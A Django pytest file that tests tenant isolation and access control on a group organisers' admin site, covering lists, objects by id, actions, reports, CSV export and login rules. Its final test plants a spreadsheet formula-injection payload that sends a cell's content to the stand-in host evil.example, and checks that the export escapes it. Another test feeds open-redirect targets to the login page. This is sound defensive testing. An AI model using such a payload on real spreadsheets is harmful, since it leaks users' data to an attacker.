"""The organisers' site shows an organiser their own groups and nothing of anyone else's.

Two groups, A (Leeds) and B (Bristol), each with an organiser enrolled in two-factor,
members, meetings with attendance, a visitor, a waiting invitation and slips. A's organiser
tries every list, every page of B's objects by id, the report and its CSV for B, B's
attendance and thresholds, and actions and forms aimed at B's rows: lists show only A,
ids give 404, and B's rows stay exactly as they were. Then who may enter at all: plain
members, organisers without two-factor, anonymous visitors, removed members and organisers
who are no longer active.
"""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone

from groups.models import (
    Attendance,
    Group,
    GroupMeeting,
    Invitation,
    Membership,
    MembershipStatus,
    Slip,
    SlipChange,
    Visitor,
)
from referrals.models import Referral
from tests.conftest import make_user
from tests.groups_fixtures import build_group, furnish, report_table

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(alice, bob, charlie):
    """Group A (alice, bob) and group B (charlie, dave), each furnished."""
    dave = make_user("dave@example.com", display_name="Dave Bristolmember")
    a = build_group("Leeds Chapter", members=[alice, bob], organiser_email="org-a@example.com")
    b = build_group(
        "Bristol Hiddengroup", members=[charlie, dave], organiser_email="org-b@example.com"
    )
    return SimpleNamespace(a=a, b=b, fa=furnish(a, "Leeds"), fb=furnish(b, "Bristolsecret"))


# Everything of B's that A's organiser must never see. "Bristolsecret" is in every text
# of B's furnishing (meeting places, visitor, invitation, slips, the substitute's name).
SECRETS_B = [
    "Bristol Hiddengroup",
    "Bristolsecret",
    "bristolsecret",
    "Charlie Outsider",
    "charlie@example.com",
    "Dave Bristolmember",
    "dave@example.com",
    "Seat of charlie",
    "Seat of dave",
    "org-b@example.com",
]


def _assert_nothing_of_b(response) -> None:
    html = response.content.decode()
    leaks = [s for s in SECRETS_B if s in html]
    assert not leaks, f"{response.request['PATH_INFO']} shows {leaks}"


def _snapshot(group: Group) -> dict:
    """Every row of ``group`` a request to the organisers' site could change."""
    return {
        "group": list(Group.objects.filter(pk=group.pk).values()),
        "memberships": list(Membership.objects.filter(group=group).order_by("pk").values()),
        "invitations": list(Invitation.objects.filter(group=group).order_by("pk").values()),
        "meetings": list(GroupMeeting.objects.filter(group=group).order_by("pk").values()),
        "attendance": list(Attendance.objects.filter(meeting__group=group).order_by("pk").values()),
        "visitors": list(Visitor.objects.filter(group=group).order_by("pk").values()),
        "slips": list(Slip.objects.filter(group=group).order_by("pk").values()),
        "changes": list(SlipChange.objects.filter(slip__group=group).order_by("pk").values()),
        "ledger": list(Referral.objects.filter(slip__group=group).order_by("pk").values()),
    }


@pytest.fixture
def org_a(client, world):
    client.force_login(world.a.organiser)
    return client


# --- Lists ------------------------------------------------------------------------------

# (changelist url name, a text of A's that proves the list is not simply empty)
CHANGELISTS = [
    ("groups_group", "Leeds Chapter"),
    ("groups_membership", "Seat of alice"),
    ("groups_invitation", "leeds-invitee@example.com"),
    ("groups_groupmeeting", "Leeds Hall"),
    ("groups_visitor", "Leeds Visitor"),
    ("groups_slip", "Leeds Prospect"),
]


def test_every_model_of_the_organisers_site_is_covered():
    """A model registered on /organise/ must be added to CHANGELISTS (and so to these tests)."""
    from groups.admin import organise_site

    registered = {f"{m._meta.app_label}_{m._meta.model_name}" for m in organise_site._registry}
    assert registered == {name for name, _ in CHANGELISTS}


@pytest.mark.parametrize(("name", "own"), CHANGELISTS)
def test_lists_show_only_the_organisers_groups(org_a, world, name, own):
    response = org_a.get(reverse(f"organise:{name}_changelist"))

    assert response.status_code == 200
    assert own in response.content.decode()
    assert response.context["cl"].result_count >= 1
    _assert_nothing_of_b(response)


def _group_id(obj) -> int:
    return obj.pk if isinstance(obj, Group) else obj.group_id


@pytest.mark.parametrize(("name", "own"), CHANGELISTS)
def test_lists_filtered_or_searched_for_b_find_nothing_of_b(org_a, world, name, own):
    """Filtering by B's id or searching for B's names finds none of B's rows.

    (With one group of their own the group filter is not offered, so Django ignores it and
    the list shows A's rows: still nothing of B's.)
    """
    lookup = "pk__exact" if name == "groups_group" else "group__id__exact"
    url = reverse(f"organise:{name}_changelist")

    for params in (
        {lookup: world.b.group.pk},
        *({"q": term} for term in ("Bristolsec", "Charli", "dave@exam", "Seat of")),
    ):
        response = org_a.get(url, params)
        assert response.status_code == 200
        assert {_group_id(o) for o in response.context["cl"].result_list} <= {world.a.group.pk}
        _assert_nothing_of_b(response)


def test_index_shows_only_the_organisers_groups(org_a, world):
    response = org_a.get(reverse("organise:index"))

    assert response.status_code == 200
    html = response.content.decode()
    assert "Leeds Chapter" in html
    assert [g.pk for g in response.context["groups"]] == [world.a.group.pk]
    _assert_nothing_of_b(response)


def test_autocomplete_offers_only_the_organisers_rows(org_a, world):
    url = reverse("organise:autocomplete")
    for model_name, field_name, own in (
        ("slip", "giver", "Alice Owner"),
        ("visitor", "brought_by", "Bob Member"),
        ("visitor", "invitation", "leeds-invitee@example.com"),
    ):
        response = org_a.get(
            url,
            {"app_label": "groups", "model_name": model_name, "field_name": field_name, "term": ""},
        )
        assert response.status_code == 200, (model_name, field_name)
        texts = [r["text"] for r in response.json()["results"]]
        assert any(own in t for t in texts), texts
        _assert_nothing_of_b(response)


# --- B's objects by id ---------------------------------------------------------------------

# (model url name, which of B's objects)
B_OBJECTS = [
    ("groups_group", lambda w: w.b.group),
    ("groups_membership", lambda w: w.b.m["charlie"]),
    ("groups_membership", lambda w: w.b.org_membership),
    ("groups_invitation", lambda w: w.fb.invitation),
    ("groups_groupmeeting", lambda w: w.fb.past),
    ("groups_visitor", lambda w: w.fb.visitor),
    ("groups_slip", lambda w: w.fb.won),
]


@pytest.mark.parametrize(("name", "which"), B_OBJECTS)
@pytest.mark.parametrize("view", ["change", "history"])
def test_b_objects_by_id_are_404(org_a, world, name, which, view):
    obj = which(world)
    before = _snapshot(world.b.group)

    response = org_a.get(reverse(f"organise:{name}_{view}", args=[obj.pk]))

    assert response.status_code == 404
    _assert_nothing_of_b(response)
    assert _snapshot(world.b.group) == before


@pytest.mark.parametrize(("name", "which"), B_OBJECTS)
def test_posting_to_b_objects_is_404_and_changes_nothing(org_a, world, name, which):
    obj = which(world)
    before = _snapshot(world.b.group)
    data = {
        "name": "Hijacked",
        "city": "Nowhere",
        "meeting_weekday": 0,
        "meeting_time": "07:00",
        "currency": "USD",
        "absence_limit": 3,
        "absence_window_days": 182,
        "seat": "Hijacked",
        "role": "member",
        "status": "left",
        "joined_on": "2020-01-01",
        "group": world.a.group.pk,
        "on": timezone.localdate().isoformat(),
        "visited_on": timezone.localdate().isoformat(),
    }

    response = org_a.post(reverse(f"organise:{name}_change", args=[obj.pk]), data)

    assert response.status_code == 404
    _assert_nothing_of_b(response)
    assert _snapshot(world.b.group) == before


def test_own_objects_by_id_open(org_a, world):
    """The same pages open for A's objects: the 404s above are about whose group it is."""
    for name, obj, own in (
        ("groups_group", world.a.group, "Leeds Chapter"),
        ("groups_membership", world.a.m["alice"], "Seat of alice"),
        ("groups_invitation", world.fa.invitation, "leeds-invitee@example.com"),
        ("groups_groupmeeting", world.fa.past, "Leeds Hall"),
        ("groups_visitor", world.fa.visitor, "Leeds Visitor"),
        ("groups_slip", world.fa.won, "Leeds Winner"),
    ):
        response = org_a.get(reverse(f"organise:{name}_change", args=[obj.pk]))
        assert response.status_code == 200, name
        assert own in response.content.decode(), name
        _assert_nothing_of_b(response)


@pytest.mark.parametrize(
    ("name", "action", "which"),
    [
        ("groups_group", "schedule_meetings", lambda w: [w.b.group]),
        ("groups_membership", "remove", lambda w: [w.b.m["charlie"], w.b.m["dave"]]),
        ("groups_membership", "suspend", lambda w: [w.b.org_membership]),
        ("groups_invitation", "revoke", lambda w: [w.fb.invitation]),
        ("groups_invitation", "resend", lambda w: [w.fb.invitation]),
        ("groups_visitor", "invite", lambda w: [w.fb.visitor]),
    ],
)
def test_actions_on_b_rows_change_nothing(
    org_a, world, name, action, which, django_capture_on_commit_callbacks
):
    before = _snapshot(world.b.group)
    invitations_before = Invitation.objects.count()

    with django_capture_on_commit_callbacks() as callbacks:
        response = org_a.post(
            reverse(f"organise:{name}_changelist"),
            {
                "action": action,
                "index": "0",
                "_selected_action": [str(o.pk) for o in which(world)],
            },
        )

    assert response.status_code in (200, 302)
    assert _snapshot(world.b.group) == before
    assert Invitation.objects.count() == invitations_before
    assert callbacks == []  # no invitation e-mail queued


def test_scheduling_own_meetings_works_where_b_s_is_ignored(org_a, world):
    """The control for the actions above: on A's own group the action does its work."""
    url = reverse("organise:groups_group_changelist")
    data = {"action": "schedule_meetings", "index": "0", "_selected_action": [world.a.group.pk]}
    before = GroupMeeting.objects.filter(group=world.a.group).count()

    first = org_a.get(org_a.post(url, data).url).content.decode()
    made = GroupMeeting.objects.filter(group=world.a.group).count() - before
    second = org_a.get(org_a.post(url, data).url).content.decode()

    assert made >= 7  # eight weekly dates, one may be a furnished meeting's
    assert f"Scheduled {made} meeting(s)" in first
    assert "Scheduled 0 meeting(s)" in second
    assert GroupMeeting.objects.filter(group=world.a.group).count() == before + made


def test_add_forms_refuse_b_as_a_choice(org_a, world):
    today = timezone.localdate().isoformat()
    before = _snapshot(world.b.group)
    counts = (Invitation.objects.count(), GroupMeeting.objects.count(), Visitor.objects.count())

    invitation = org_a.post(
        reverse("organise:groups_invitation_add"),
        {"group": world.b.group.pk, "email": "sneaky@example.com", "role": "member"},
    )
    meeting = org_a.post(
        reverse("organise:groups_groupmeeting_add"),
        {"group": world.b.group.pk, "on": today, "place": "Sneaky"},
    )
    visitor = org_a.post(
        reverse("organise:groups_visitor_add"),
        {
            "group": world.a.group.pk,
            "meeting": world.fb.now.pk,
            "brought_by": world.b.m["charlie"].pk,
            "visited_on": today,
            "name": "Sneaky visitor",
        },
    )

    for response, field in ((invitation, "group"), (meeting, "group"), (visitor, "brought_by")):
        assert response.status_code == 200
        assert field in response.context["adminform"].form.errors
        _assert_nothing_of_b(response)
    assert "meeting" in visitor.context["adminform"].form.errors
    assert (
        Invitation.objects.count(),
        GroupMeeting.objects.count(),
        Visitor.objects.count(),
    ) == counts
    assert _snapshot(world.b.group) == before


def test_add_forms_offer_only_the_organisers_rows(org_a, world):
    for name in ("groups_invitation", "groups_groupmeeting", "groups_visitor"):
        response = org_a.get(reverse(f"organise:{name}_add"))
        assert response.status_code == 200
        assert "Leeds Chapter" in response.content.decode()
        _assert_nothing_of_b(response)


def test_view_on_site_shortcut_is_not_there(org_a, world):
    """No "view on site" redirect: it would tell whether any id of any model exists."""
    ct = ContentType.objects.get_for_model(Group)
    response = org_a.get(f"/organise/r/{ct.pk}/{world.b.group.pk}/")
    assert response.status_code == 404
    _assert_nothing_of_b(response)


# --- Report, CSV, thresholds, attendance ----------------------------------------------------


@pytest.mark.parametrize("period", ["month", "last_month", "6m", "12m"])
@pytest.mark.parametrize("url_name", ["organise:report", "organise:report_csv"])
def test_report_and_csv_for_b_are_refused(org_a, world, url_name, period):
    response = org_a.get(reverse(url_name), {"group": world.b.group.pk, "period": period})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Pick one of the groups you organise." in response.content.decode()
    _assert_nothing_of_b(response)


def test_report_and_csv_of_own_group_show_only_its_members(org_a, world):
    params = {"group": world.a.group.pk, "period": "month"}

    page = org_a.get(reverse("organise:report"), params)
    export = org_a.get(reverse("organise:report_csv"), params)

    assert page.status_code == 200
    assert "Bob Member" in page.content.decode()
    _assert_nothing_of_b(page)
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    names = {r[0] for r in rows[2:-1]}
    assert names == {"Alice Owner", "Bob Member", "Org Leeds Chapter"}
    _assert_nothing_of_b(export)


def test_report_without_a_group_shows_the_organisers_first_group(org_a, world):
    response = org_a.get(reverse("organise:report"))

    assert response.status_code == 200
    assert response.context["report"].group == world.a.group
    _assert_nothing_of_b(response)


def test_the_report_lets_go_of_its_rows_once_rendered(org_a, world):
    """The page holds the rows' HTML; the template Context (a reference cycle that only a
    full collection frees) no longer does once the response is rendered."""
    response = org_a.get(reverse("organise:report"))
    assert "Bob Member" in response.content.decode()
    assert response.context["report"].rows == ""


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_thresholds_of_b_are_404(org_a, world, method):
    url = reverse("organise:thresholds", args=[world.b.group.pk])
    before = _snapshot(world.b.group)
    data = {"absence_limit": 1, "absence_window_days": 7}
    for key in ("referrals_per_month", "one_to_ones_per_month", "attendance_pct"):
        data |= {f"{key}__green": 0, f"{key}__amber": 0}
    data |= {"visitors_per_month__green": 0, "visitors_per_month__amber": 0}
    data |= {"points__green": 0, "points__amber": 0}

    response = org_a.get(url) if method == "GET" else org_a.post(url, data)

    assert response.status_code == 404
    _assert_nothing_of_b(response)
    assert _snapshot(world.b.group) == before


def test_attendance_of_b_is_404_and_saves_nothing(org_a, world):
    before = _snapshot(world.b.group)
    b_meeting, b_member = world.fb.now, world.b.m["dave"]
    htmx = {"HX-Request": "true"}
    responses = [
        org_a.get(reverse("organise:attendance", args=[b_meeting.pk])),
        org_a.post(reverse("organise:attendance", args=[b_meeting.pk]), {"all": "P"}),
        org_a.post(
            reverse("organise:attendance_mark", args=[b_meeting.pk, b_member.pk]),
            {"code": "A"},
        ),
        org_a.post(
            reverse("organise:attendance_mark", args=[b_meeting.pk, b_member.pk]),
            {"cycle": "1"},
            headers=htmx,
        ),
        # A's own meeting with B's member, and B's meeting with A's member.
        org_a.post(
            reverse("organise:attendance_mark", args=[world.fa.now.pk, b_member.pk]),
            {"code": "P"},
            headers=htmx,
        ),
        org_a.post(
            reverse("organise:attendance_mark", args=[b_meeting.pk, world.a.m["bob"].pk]),
            {"code": "P"},
        ),
    ]

    for response in responses:
        assert response.status_code == 404
        _assert_nothing_of_b(response)
    assert _snapshot(world.b.group) == before
    assert not Attendance.objects.filter(meeting=world.fa.now, membership=b_member).exists()
    assert not Attendance.objects.filter(meeting=b_meeting, membership=world.a.m["bob"]).exists()


def test_own_attendance_works_where_b_s_is_404(org_a, world):
    bob = world.a.m["bob"]
    response = org_a.post(
        reverse("organise:attendance_mark", args=[world.fa.now.pk, bob.pk]),
        {"code": "L"},
        headers={"HX-Request": "true"},
    )

    assert response.status_code == 200
    assert Attendance.objects.get(meeting=world.fa.now, membership=bob).code == "L"
    page = org_a.get(reverse("organise:attendance", args=[world.fa.now.pk]))
    assert page.status_code == 200
    assert "Bob Member" in page.content.decode()
    _assert_nothing_of_b(page)


# --- Who may enter ---------------------------------------------------------------------------

ORGANISE_URLS = [
    lambda w: reverse("organise:index"),
    lambda w: reverse("organise:groups_membership_changelist"),
    lambda w: reverse("organise:groups_slip_change", args=[w.fa.won.pk]),
    lambda w: reverse("organise:report") + f"?group={w.a.group.pk}",
    lambda w: reverse("organise:report_csv") + f"?group={w.a.group.pk}",
    lambda w: reverse("organise:attendance", args=[w.fa.now.pk]),
    lambda w: reverse("organise:thresholds", args=[w.a.group.pk]),
]

# What a stranger to the organisers' site must not see of group A's organiser pages.
SECRETS_A_ORGANISER = ["Leeds Prospect", "Leeds Winner", "leeds-invitee@example.com", "Seat of"]


def _assert_no_organiser_content(response) -> None:
    html = response.content.decode()
    leaks = [s for s in SECRETS_A_ORGANISER if s in html]
    assert not leaks, leaks


@pytest.mark.parametrize("url", ORGANISE_URLS)
def test_a_plain_member_is_turned_away(client, world, url):
    client.force_login(world.a.m["bob"].user)
    target = url(world)

    first = client.get(target)

    assert first.status_code == 302
    assert first.url.startswith(reverse("organise:login"))
    _assert_no_organiser_content(first)
    final = client.get(first.url)
    assert final.status_code == 403
    assert "For group organisers" in final.content.decode()
    _assert_no_organiser_content(final)


def test_a_plain_member_cannot_post_attendance(client, world):
    client.force_login(world.a.m["bob"].user)
    before = _snapshot(world.a.group)

    response = client.post(
        reverse("organise:attendance_mark", args=[world.fa.now.pk, world.a.m["bob"].pk]),
        {"code": "P"},
    )

    assert response.status_code == 302
    assert response.url.startswith(reverse("organise:login"))
    assert _snapshot(world.a.group) == before


@pytest.mark.parametrize("url", ORGANISE_URLS)
def test_an_organiser_without_two_factor_is_sent_to_enrol(client, world, url):
    world.a.organiser.authenticator_set.all().delete()
    client.force_login(world.a.organiser)

    first = client.get(url(world))
    assert first.status_code == 302
    assert first.url.startswith(reverse("organise:login"))
    second = client.get(first.url)

    assert second.status_code == 302
    assert second.url == reverse("mfa_activate_totp")
    _assert_no_organiser_content(first)
    _assert_no_organiser_content(second)


@pytest.mark.parametrize("url", ORGANISE_URLS)
def test_anonymous_visitors_go_to_the_login(client, world, url):
    first = client.get(url(world))
    assert first.status_code == 302
    second = client.get(first.url)

    assert second.status_code == 302
    assert second.url.startswith(reverse("account_login") + "?next=")
    _assert_no_organiser_content(first)
    _assert_no_organiser_content(second)


def test_login_page_never_sends_an_organiser_off_site(org_a, world):
    for target in ("https://evil.example/", "//evil.example/x", "/organise/report/"):
        response = org_a.get(reverse("organise:login"), {"next": target})
        assert response.status_code == 302
        assert response.url.startswith("/"), target
        assert not response.url.startswith("//"), target
    assert response.url == "/organise/report/"


@pytest.mark.parametrize(
    "status", [MembershipStatus.LEFT, MembershipStatus.SUSPENDED, MembershipStatus.ON_LEAVE]
)
def test_an_organiser_no_longer_active_loses_the_site(client, world, status):
    membership = world.a.org_membership
    membership.status = status
    membership.save(update_fields=["status"])
    client.force_login(world.a.organiser)

    for url in ORGANISE_URLS:
        response = client.get(url(world), follow=True)
        assert response.status_code == 403, url(world)
        _assert_no_organiser_content(response)


# --- A member removed by the organiser -------------------------------------------------------


def _remove(org_client, membership):
    return org_client.post(
        reverse("organise:groups_membership_changelist"),
        {"action": "remove", "index": "0", "_selected_action": [str(membership.pk)]},
    )


def test_removed_member_loses_the_roster_and_slips_but_stays_in_the_history(
    client, org_a, world, bob
):
    bob_m = world.a.m["bob"]

    response = _remove(org_a, bob_m)

    assert response.status_code == 302
    bob_m.refresh_from_db()
    assert bob_m.status == MembershipStatus.LEFT
    assert bob_m.left_on == timezone.localdate()

    # The organiser's slip list and report still name him on his slips.
    slip_list = org_a.get(reverse("organise:groups_slip_changelist")).content.decode()
    assert "Bob Member" in slip_list and "Leeds Winner" in slip_list
    report_page = org_a.get(reverse("organise:report"), {"group": world.a.group.pk})
    rows = report_table(report_page.content.decode())
    assert rows["Bob Member"]["given"] == "1" and rows["Bob Member"]["received"] == "1"
    assert "Bob Member" in report_page.content.decode()
    export = org_a.get(reverse("organise:report_csv"), {"group": world.a.group.pk})
    by_name = {r[0]: r for r in csv.reader(io.StringIO(export.content.decode()))}
    assert by_name["Bob Member"][2] == "Left"

    # Bob: no roster, no slips to the group (though he is still in another group, so the
    # slip form is open to him).
    build_group("Cardiff Circle", members=[bob, make_user("erin@example.com")])
    client.force_login(bob_m.user)
    assert client.get(reverse("groups:detail", args=[world.a.group.pk])).status_code == 404
    slips_before = Slip.objects.count()
    form = client.get(reverse("groups:slip_create"))
    assert form.status_code == 200
    assert "Alice Owner" not in form.content.decode()
    gave = client.post(
        reverse("groups:slip_create"),
        {
            "receiver": world.a.m["alice"].pk,
            "prospect_name": "After removal",
            "referred_on": timezone.localdate().isoformat(),
            "temperature": "warm",
        },
    )
    assert gave.status_code == 200
    assert "Pick a current member of one of your groups." in gave.content.decode()
    assert Slip.objects.count() == slips_before
    # His own slip page still opens: the slip is his too.
    assert client.get(reverse("groups:slip", args=[world.fa.won.pk])).status_code == 200
    # Nor does the roster of the group list him for alice.
    client.force_login(world.a.m["alice"].user)
    roster = client.get(reverse("groups:detail", args=[world.a.group.pk]))
    assert bob_m not in roster.context["members"]


def test_removed_member_cannot_receive_slips(client, org_a, world):
    _remove(org_a, world.a.m["bob"])
    client.force_login(world.a.m["alice"].user)
    before = Slip.objects.count()

    response = client.post(
        reverse("groups:slip_create"),
        {
            "receiver": world.a.m["bob"].pk,
            "prospect_name": "To a removed member",
            "referred_on": timezone.localdate().isoformat(),
            "temperature": "warm",
        },
    )

    assert response.status_code == 200
    assert "Pick a current member of one of your groups." in response.content.decode()
    assert Slip.objects.count() == before


def test_organiser_cannot_remove_themselves_by_the_action(org_a, world):
    response = _remove(org_a, world.a.org_membership)

    assert response.status_code == 302
    world.a.org_membership.refresh_from_db()
    assert world.a.org_membership.status == MembershipStatus.ACTIVE
    page = org_a.get(response.url)
    assert "You can&#x27;t change your own membership here." in page.content.decode()


def _change_membership(org_client, membership, **values):
    data = {
        "seat": membership.seat,
        "role": membership.role,
        "status": membership.status,
        "joined_on": membership.joined_on.isoformat(),
        "left_on": "",
        **values,
    }
    return org_client.post(reverse("organise:groups_membership_change", args=[membership.pk]), data)


def test_removed_on_the_change_form_also_stays_in_the_history(org_a, world):
    bob_m = world.a.m["bob"]

    response = _change_membership(org_a, bob_m, status=MembershipStatus.LEFT)

    assert response.status_code == 302
    bob_m.refresh_from_db()
    assert (bob_m.status, bob_m.left_on) == (MembershipStatus.LEFT, timezone.localdate())
    report_page = org_a.get(reverse("organise:report"), {"group": world.a.group.pk})
    assert "Bob Member" in report_table(report_page.content.decode())

    _change_membership(org_a, bob_m, status=MembershipStatus.ACTIVE)
    bob_m.refresh_from_db()
    assert (bob_m.status, bob_m.left_on) == (MembershipStatus.ACTIVE, None)


def test_organiser_cannot_demote_or_remove_themselves_on_the_change_form(org_a, world):
    own = world.a.org_membership

    response = _change_membership(org_a, own, role="member", status=MembershipStatus.LEFT)

    assert response.status_code == 302
    own.refresh_from_db()
    assert (own.role, own.status) == ("organiser", MembershipStatus.ACTIVE)
    assert org_a.get(reverse("organise:index")).status_code == 200


# --- The CSV export is safe to open in a spreadsheet ----------------------------------------


def test_csv_escapes_formulas_in_names_and_seats(org_a, world, alice, bob):
    alice.display_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    alice.save(update_fields=["display_name"])
    seats = {"alice": "+1 Plumber", "bob": "-2 Roofer"}
    for key, seat in seats.items():
        world.a.m[key].seat = seat
        world.a.m[key].save(update_fields=["seat"])
    world.a.org_membership.seat = "@SUM(1+1)"
    world.a.org_membership.save(update_fields=["seat"])

    response = org_a.get(
        reverse("organise:report_csv"), {"group": world.a.group.pk, "period": "month"}
    )

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header = rows[1]
    assert header[:3] == ["Member", "Seat", "Status"]
    members = {tuple(r[:2]) for r in rows[2:-1]}
    assert members == {
        ("'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'+1 Plumber"),
        ("Bob Member", "'-2 Roofer"),
        ("Org Leeds Chapter", "'@SUM(1+1)"),
    }
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
